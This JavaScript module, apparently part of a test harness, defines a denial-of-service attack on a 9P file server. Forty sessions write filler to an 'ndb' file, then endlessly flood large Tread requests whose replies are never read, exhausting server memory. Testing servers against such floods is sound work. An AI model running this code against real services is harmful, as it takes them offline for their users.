// Reads of the longest messages whose replies are never read: forty sessions of four peers.
import { Topen, Tread, Twalk, Twrite } from '@net/9p'
import { forever, frame, frames, RawSession } from '../export/raw_session.mjs'

const COUNT = 512 * 1024
const ndb = Buffer.from('a=b '.repeat(2000))

export async function attack({ port, begun }) {
  const one = (n) => async () => {
    const session = await RawSession.attach(port, n % 4)
    await session.conn.write(frame(Twalk, 1, { fid: 0, newfid: 1, wname: ['ndb'] }))
    await session.conn.write(frame(Topen, 1, { fid: 1, mode: 2 }))
    for (let at = 0; at < 32_000; at += 8000) {
      await session.conn.write(frame(Twrite, 1, { fid: 1, offset: BigInt(at), data: ndb }))
    }
    begun()
    const reads = frames(4000, (i) => frame(Tread, i + 2, { fid: 1, offset: 0n, count: COUNT }))
    for (;;) await session.conn.write(reads)
  }
  await Promise.all(Array.from({ length: 40 }, (_, n) => forever(one(n))))
}
